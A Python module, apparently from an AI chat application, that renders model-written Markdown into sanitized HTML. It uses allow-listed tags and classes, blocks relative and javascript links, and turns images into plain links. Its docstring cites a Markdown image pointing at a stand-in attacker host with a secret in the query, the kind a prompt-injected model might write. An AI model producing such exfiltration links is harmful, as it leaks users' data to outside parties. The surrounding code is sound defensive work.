"""Model text -> safe HTML. A pure function of text: no Django models, no I/O.

markdown-it-py parses CommonMark plus tables and strikethrough with raw HTML off; fenced
code becomes a highlighted code block (code_blocks.py) and LaTeX becomes MathML
(formulas.py); images become plain links (a model tricked into writing
`![](https://attacker/?q=secret)` must not make the browser fetch anything); and nh3
cleans the result with an explicit allow-list, whatever the renderer produced.

What the rest of the project imports: `render`, `render_markdown` (remembered) and
`plain_text`; growing.py renders a streaming answer's growing end with `render_inline`
and `render`, the same parser and the same cleaner.
"""

from __future__ import annotations

import re
from functools import lru_cache
from html import escape, unescape
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

from .code_blocks import TOKEN_CLASSES, fence
from .formulas import MATHML_ATTRIBUTES, MATHML_TAGS, length_allowed, math_plugin

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote",
    "pre", "code", "span", "em", "strong", "del", "s", "a", "table", "thead", "tbody",
    "tr", "th", "td", "div", "button",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "ol": {"start"},
    "button": {"type", "aria-label"},
    **MATHML_ATTRIBUTES,
}
# No id, name, style, on*, hx-*, data-*, src, action: nothing that could collide with the
# page, run, fetch or be processed by htmx. Classes only from our own vocabulary.
ALLOWED_CLASSES = {
    "span": TOKEN_CLASSES | {"code-lang"},
    "div": {"code-block", "code-head", "math-display"},
    "button": {"copy-button"},
    "th": {"align-left", "align-center", "align-right"},
    "td": {"align-left", "align-center", "align-right"},
    "a": {"image-link"},
    "code": {"code", "math-source"},
    "pre": {"highlight", "math-pending"},
}
_ABSOLUTE_LINK = re.compile(r"^(?:https?://|mailto:)", re.I)


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    # Only absolute web and mail links: a relative link in model text would point into
    # this very site, and odd encodings of "javascript:" are relative links too.
    if attribute == "href" and not _ABSOLUTE_LINK.match(value):
        return None
    if not length_allowed(tag, attribute, value):
        return None
    return value


_CLEANER = nh3.Cleaner(
    attribute_filter=_attribute_filter,
    tags=ALLOWED_TAGS | MATHML_TAGS,
    clean_content_tags={"script", "style"},
    attributes=ALLOWED_ATTRIBUTES,
    allowed_classes=ALLOWED_CLASSES,
    url_schemes={"http", "https", "mailto"},
    link_rel="noopener noreferrer nofollow",
    set_tag_attribute_values={"a": {"target": "_blank"}},
    strip_comments=True,
)


def _image(
    renderer: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    # Never an <img>: loading it would tell a third party what the reader is reading.
    token = tokens[idx]
    src = escape(str(token.attrGet("src") or ""))
    alt = escape(token.content or "image")
    return f'<a class="image-link" href="{src}">Image: {alt}</a>'


def _cell_align(state: Any) -> None:
    # Table alignment arrives as style="text-align:…"; the CSP forbids inline styles.
    for token in state.tokens:
        if token.type in ("th_open", "td_open"):
            style = token.attrGet("style") or ""
            if isinstance(style, str) and "text-align:" in style:
                token.attrs.pop("style", None)
                token.attrSet("class", "align-" + style.split(":", 1)[1].strip())


def _make_parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])
    md.add_render_rule("fence", fence)
    md.add_render_rule("code_block", fence)
    md.add_render_rule("image", _image)
    md.core.ruler.push("cell_align", _cell_align)
    md.use(math_plugin)
    return md


_MD = _make_parser()


def sanitize(html: str) -> str:
    return _CLEANER.clean(html)


# Text that CommonMark (+ tables, strikethrough, formulas; raw HTML, linkify and
# typographer off) can only read as plain words: no inline syntax, no hard break, no
# blank line, and no line that could open or underline a block.
_NOT_PLAIN = re.compile(r"[\\`*_\[\]<>&~|$]| \n|\n[ \t]*\n")
_BLOCK_LINE = re.compile(r"^(?: {0,3}[\t#>+*=\d`~-]| {4})", re.MULTILINE)
_HEADING = re.compile(r"^(#{1,6}) ([^#\n]*)\n*$")
_BULLET_ITEM = re.compile(r"^([-*+]) ([^\n]*)$", re.MULTILINE)


def _plain(text: str) -> bool:
    """Words only: what the parser and the cleaner give back escaped, and nothing else
    (no control, format or non-ASCII space character, which either may rewrite)."""
    return (
        not _NOT_PLAIN.search(text)
        and not _BLOCK_LINE.search(text)
        and text.replace("\n", "").isprintable()
    )


def _plain_lines(text: str) -> str:
    return escape("\n".join(line.strip() for line in text.strip().split("\n")), quote=False)


# The commonest inline markup of model text, in forms CommonMark reads one way only: bold
# around words (opened after a space, closed before a space or punctuation), a code span
# of one backtick, and a link to a plain web address.
_INLINE_PART = re.compile(
    r"(?P<strong>(?<![^ (])\*\*(?P<bold>[A-Za-z0-9](?:[^\\`*_\[\]<>&~|$\n]*[^\\`*_\[\]<>&~|$\n ])?)"
    r"\*\*(?=[ .,;:!?)]|$))"
    r"|(?P<code>(?<!`)`(?P<span>[^`\n ](?:[^`\n]*[^`\n ])?)`(?!`))"
    r"|(?P<link>(?<!!)\[(?P<label>[A-Za-z0-9](?:[^\\`*_\[\]<>&~|$\n!]*[^\\`*_\[\]<>&~|$\n! ])?)\]"
    r"\((?P<href>https?://[A-Za-z0-9/._~:?#=+-]+)\))"
)
_INLINE_SPECIAL = re.compile(r"[\\`*_\[\]<>&~|$\n]")


def inline_simple(text: str) -> str | None:
    """renderInline() and the cleaner's HTML for words with only that markup, written
    here, the same to the byte (tests/test_rendering_fast.py); None for anything else."""
    if not text.isprintable():
        return None
    out = []
    at = 0
    for part in _INLINE_PART.finditer(text):
        words = text[at : part.start()]
        if _INLINE_SPECIAL.search(words) or (words.endswith("!") and part["link"]):
            return None
        out.append(escape(words, quote=False))
        if part["strong"]:
            out.append(f"<strong>{escape(part['bold'], quote=False)}</strong>")
        elif part["code"]:
            out.append(f"<code>{escape(part['span'], quote=False)}</code>")
        else:
            label = escape(part["label"], quote=False)
            out.append(f'<a href="{part["href"]}" {_LINK_TAIL}>{label}</a>')
        at = part.end()
    words = text[at:]
    if _INLINE_SPECIAL.search(words):
        return None
    out.append(escape(words, quote=False))
    return "".join(out)


_LINK_TAIL = 'target="_blank" rel="noopener noreferrer nofollow"'


def _render_simple(text: str) -> str | None:
    """render() without the parser and the cleaner for the commonest finished blocks of a
    streaming answer (a plain paragraph, heading or list: 0.04-0.4 ms each through
    them), the same HTML to the byte (tests/test_rendering_fast.py); None for the rest."""
    body = text.rstrip("\n")
    if not body.strip():
        return None
    if _plain(body):
        return f"<p>{_plain_lines(body)}</p>\n"
    if "\n" not in body and opens_nothing(body):
        inline = inline_simple(body.strip())
        if inline is not None:
            return f"<p>{inline}</p>\n"
    heading = _HEADING.match(text)
    if heading is not None and "\n" not in body:
        words = heading.group(2)
        if words.strip() and _plain(words):
            level = len(heading.group(1))
            return f"<h{level}>{_plain_lines(words)}</h{level}>\n"
        return None
    lines = body.split("\n")
    items = [_BULLET_ITEM.match(line) for line in lines]
    if all(items) and len({item[1] for item in items if item}) == 1:
        words = [item[2] for item in items if item]
        if all(word.strip() and not word.startswith(" ") for word in words):
            inlines = [
                inline_simple(word.rstrip()) if opens_nothing(word) else None for word in words
            ]
            if all(inline is not None for inline in inlines):
                return "<ul>\n" + "".join(f"<li>{inline}</li>\n" for inline in inlines) + "</ul>\n"
    return None


def opens_nothing(line: str) -> bool:
    """A line that cannot start a block: only words or inline markup first ("**Note:**"
    and "`code`" do not open a list or a fence)."""
    first = line.lstrip(" ")
    if len(line) - len(first) > 3:
        return False  # indented code
    if first.startswith("**"):
        return first[2:3].isalnum()
    if first.startswith("`"):
        return not first.startswith("``")
    return not _BLOCK_LINE.match(first)


def render(text: str) -> str:
    """Safe HTML for a piece of model (or imported) text."""
    if not text:
        return ""
    simple = _render_simple(text)
    if simple is not None:
        return simple
    return sanitize(_MD.render(text))


@lru_cache(maxsize=4096)
def render_markdown(text: str) -> str:
    """render(), remembered: pages show the same finished answers again and again."""
    return render(text)


def render_inline(text: str) -> str:
    """Safe HTML for a piece of a paragraph: inline markup only, no block."""
    return sanitize(_MD.renderInline(text))


_TAG = re.compile(r"<[^>]*>")
_BLOCK_TAG = re.compile(r"</?(?:p|li|h[1-6]|tr|td|th|div|pre|br|hr|ul|ol|table|blockquote)\b[^>]*>")
# The cleaner writes "<" and ">" in attribute values as entities: "[^>]" cannot overrun.
_MATH = re.compile(r'<math\b[^>]*?\balttext="([^"]*)"[^>]*>.*?</math>', re.DOTALL)


def plain_text(html: str) -> str:
    """The words of HTML this module rendered (well formed, cleaned), for a screen
    reader's announcement: its tags dropped, its entities read (to be escaped where it
    is put: announce_html). A formula reads as its LaTeX source: "x^2", not MathML's
    "x2"."""
    html = _MATH.sub(lambda m: f" {m.group(1)} ", html)
    return " ".join(unescape(_TAG.sub("", _BLOCK_TAG.sub(" ", html))).split())
